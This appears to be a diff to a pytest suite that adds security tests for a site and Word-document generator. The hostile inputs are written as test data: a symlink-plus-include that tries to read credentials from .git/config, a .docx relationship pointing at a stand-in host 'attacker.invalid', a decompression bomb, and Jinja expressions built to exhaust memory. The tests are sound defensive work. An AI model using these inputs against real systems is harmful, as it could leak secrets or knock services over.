@@ -209,7 +209,7 @@ def test_reference_with_broken_xml(repo: Path) -> None:
 
 
 def test_reference_with_a_member_that_inflates_to_gigabytes(repo: Path) -> None:
-    _reference(repo, {}, {"word/media/bomb.bin": b"\0" * (300 * 1024 * 1024)})
+    _reference(repo, {}, {"word/media/bomb.bin": b"\0" * (20 * 1024 * 1024)})
     code, err, seconds = build(repo, timeout=60)
     assert code == 1 and "templates/reference.docx" in err and "PG030" in err
 
@@ -249,3 +249,100 @@ def test_nul_written_as_a_yaml_escape_reaches_no_output(repo: Path) -> None:
     r = run(repo, "build")
     assert r.code == 1 and "PG021" in r.err
     assert b"\0" not in published(repo)
+
+
+# ---- found by review: the templates folder itself, more reference documents, memory, language -------------
+
+
+def test_templates_linked_to_the_repository_root_publishes_nothing_of_git(repo: Path, tmp_path: Path) -> None:
+    (repo / ".git").mkdir()
+    (repo / ".git" / "config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {SECRET}\n")
+    (repo / "templates").symlink_to(".")
+    (repo / "project.html.j2").write_text("{% include '.git/config' %}", encoding="utf-8")
+    r = run(repo, "build", "--out", str(tmp_path / "site"), env=ENV)
+    assert r.code == 1 and "PG030" in r.err and "templates" in r.err
+    site = tmp_path / "site"
+    assert SECRET.encode() not in b"".join(p.read_bytes() for p in site.rglob("*") if p.is_file())
+
+
+def test_templates_linked_elsewhere_is_not_used_for_word_either(repo: Path, tmp_path: Path) -> None:
+    from conftest import ROOT
+
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (elsewhere / "reference.docx").write_bytes((ROOT / "templates" / "reference.docx").read_bytes())
+    (repo / "templates").symlink_to(elsewhere)
+    r = run(repo, "build", "--format", "docx")
+    assert r.code == 1 and "PG030" in r.err and "templates" in r.err
+
+
+@pytest.mark.parametrize("case", ["no-body", "wrong-prefix", "body-mark", "superscript-two", "utf16-styles",
+                                  "bad-content-types", "bad-settings", "main-elsewhere", "macro", "external-template",
+                                  "case-twins"])
+def test_more_broken_reference_documents(repo: Path, case: str) -> None:
+    from conftest import ROOT
+
+    src = zipfile.ZipFile(ROOT / "templates" / "reference.docx")
+    doc = src.read("word/document.xml")
+    types = src.read("[Content_Types].xml")
+    rels = src.read("_rels/.rels")
+    change: dict[str, bytes | None] = {}
+    extra: dict[str, bytes] = {}
+    if case == "no-body":
+        change["word/document.xml"] = doc.replace(b"<w:body>", b"<w:x>").replace(b"</w:body>", b"</w:x>")
+    elif case == "wrong-prefix":
+        change["word/document.xml"] = doc.replace(b"w:", b"q:").replace(b"xmlns:w=", b"xmlns:q=")
+    elif case == "body-mark":
+        change["word/document.xml"] = doc.replace(b"<w:body>", b'<w:body w:rsidR="@@perfgen-body@@">')
+    elif case == "superscript-two":
+        change["word/document.xml"] = doc.replace(b'w:w="16838"', 'w:w="²"'.encode())
+    elif case == "utf16-styles":
+        change["word/styles.xml"] = src.read("word/styles.xml").decode("utf-8").replace(
+            'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
+    elif case == "bad-content-types":
+        change["[Content_Types].xml"] = types[:-20]
+    elif case == "bad-settings":
+        change["word/settings.xml"] = b"<w:settings"
+    elif case == "main-elsewhere":
+        change["_rels/.rels"] = rels.replace(b'Target="word/document.xml"', b'Target="word/other.xml"')
+        extra["word/other.xml"] = doc
+    elif case == "macro":
+        change["[Content_Types].xml"] = types.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
+    elif case == "external-template":
+        extra["word/_rels/settings.xml.rels"] = (
+            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+            b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
+            b'2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotx" TargetMode="External"/>'
+            b"</Relationships>")
+    elif case == "case-twins":
+        extra["Word/Document.xml"] = doc
+    _reference(repo, change, extra)
+    refused(repo, "templates/reference.docx")
+
+
+@pytest.mark.parametrize("body", [
+    "{{ 'x'.ljust(2000000000)|length }}",
+    "{{ '\\t'.expandtabs(1500000000)|length }}",
+    "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}",
+    "{% set big %}{% for i in range(900000) %}{{ 'y' * 4000 }}{% endfor %}{% endset %}{{ big|length }}",
+])
+def test_text_built_out_of_sight_of_the_page_size_check(repo: Path, body: str) -> None:
+    override(repo, body)
+    code, err, seconds = build(repo, timeout=60)
+    assert code == 1, err
+    assert "templates/project.html.j2" in err and "PG030" in err
+    assert seconds < 20
+
+
+def test_ordinary_range_use_still_works(repo: Path) -> None:
+    override(repo, "<p>{{ range(3)|length }}-{{ range(5)[1] }}-{{ '%05.1f'|format(3.14159) }}</p>")
+    code, err, _ = build(repo)
+    assert code == 0, err
+    assert "3-1-003.1" in (repo / "build" / "2023" / "01-yuanshuili-buchai.html").read_text(encoding="utf-8")
+
+
+def test_refusals_speak_the_language_of_the_run(repo: Path) -> None:
+    (templates(repo) / "project.html.j2").symlink_to("nowhere.j2")
+    r = run(repo, "build", "--lang", "en")
+    assert r.code == 1 and "dangling link" in r.err
+    assert "断开" not in r.err
